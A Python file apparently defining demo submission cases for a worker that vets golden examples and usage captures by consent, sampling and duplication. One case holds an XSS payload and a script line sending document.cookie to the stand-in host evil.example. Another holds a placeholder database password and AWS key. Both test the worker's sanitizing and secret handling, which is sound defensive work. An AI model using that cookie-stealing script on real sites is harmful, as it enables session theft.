"""The demo's submissions: one of every case a newcomer should see decided."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from typing import Any

from producers.contract import new_submission_id
from worker.cli.demo import world


@dataclass(frozen=True, slots=True)
class Case:
    """One submission the demo sends, and what it shows."""

    label: str
    submission: dict[str, Any]
    # Sent past the client's validation, to show the worker's own.
    raw: bool = False
    # Sent again with the same id once the first is decided.
    resend_of: str | None = None
    notes: dict[str, Any] = field(default_factory=dict)

    @property
    def id(self) -> str:
        return str(self.submission["submission_id"])


def _golden(user: str, skill: str, tenant: str = world.TENANT, **texts: Any) -> dict[str, Any]:
    return {
        "submission_id": new_submission_id(),
        "kind": "golden_example",
        "tenant_id": tenant,
        "user_id": user,
        "skill_id": skill,
        **texts,
    }


def _usage(
    user: str, skill: str, event: str, tenant: str = world.TENANT, **texts: Any
) -> dict[str, Any]:
    return {
        "submission_id": new_submission_id(),
        "kind": "usage_capture",
        "tenant_id": tenant,
        "user_id": user,
        "skill_id": skill,
        "usage_event_id": event,
        **texts,
    }


def cases() -> list[Case]:
    """Every case, in the order they are sent; fresh ids and usage events each run."""
    first = _golden(
        world.ALICE,
        world.SKILL,
        example_input="Count users per tenant",
        example_output="SELECT tenant_id, count(*) FROM users GROUP BY 1;",
        quality_score=9,
    )
    return [
        Case("golden example by the author", first),
        Case(
            "golden example by a non-author",
            _golden(world.BOB, world.SKILL, example_input="hi", example_output="hello"),
        ),
        *_usage_cases(f"evt-{uuid.uuid4().hex[:12]}"),
        Case(
            "unknown skill",
            _golden(world.ALICE, "no-such-skill", example_input="a", example_output="b"),
        ),
        Case(
            "an invalid payload",
            _golden(
                world.ALICE, world.SKILL, example_input="", example_output="x", quality_score=42
            ),
            raw=True,
        ),
        Case("the first one resent (same id)", dict(first), resend_of=first["submission_id"]),
    ]


def _usage_cases(event: str) -> list[Case]:
    """The usage captures: consent, capture switch, sampling, duplicates, secrets, markup."""
    a, s = world.ALICE, world.SKILL
    return [
        Case(
            "usage capture with consent",
            _usage(
                a,
                s,
                f"{event}-1",
                example_input="if (x<y && y>z) return;",
                example_output="The condition holds when y is between x and z.",
            ),
        ),
        Case(
            "same usage event again",
            _usage(a, s, f"{event}-1", example_input="again", example_output="again"),
        ),
        Case(
            "usage capture without consent",
            _usage(world.BOB, s, f"{event}-2", example_input="private", example_output="x"),
        ),
        Case(
            "usage capture, tenant capture off",
            _usage(
                world.CAROL,
                world.SKILL_OFF,
                f"{event}-3",
                tenant=world.TENANT_OFF,
                example_input="ls -la 2>&1",
                example_output="total 0",
            ),
        ),
        Case(
            "usage capture, tenant keeps 0%",
            _usage(
                world.DAVE,
                world.SKILL_SAMPLED,
                f"{event}-4",
                tenant=world.TENANT_SAMPLED,
                example_input="^a+$",
                example_output="one or more a",
            ),
        ),
        Case(
            "a secret in the text",
            _usage(
                a,
                s,
                f"{event}-5",
                example_input="connect with postgres://app:s3cr3t-pw@db.internal/app",
                example_output="export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
            ),
        ),
        Case(
            "an HTML attack",
            _usage(
                a,
                s,
                f"{event}-6",
                example_input='Render <img src=x onerror="alert(1)"> please',
                example_output="<script>fetch('//evil.example/?c='+document.cookie)</script>",
            ),
        ),
    ]


def locked_case() -> Case:
    """A usage capture sent while its user's consent row is locked: it fails and is kept."""
    return Case(
        "failed: consent row locked",
        _usage(
            world.ALICE,
            world.SKILL,
            f"evt-{uuid.uuid4().hex[:12]}-locked",
            example_input="SELECT 1;",
            example_output="1",
        ),
    )
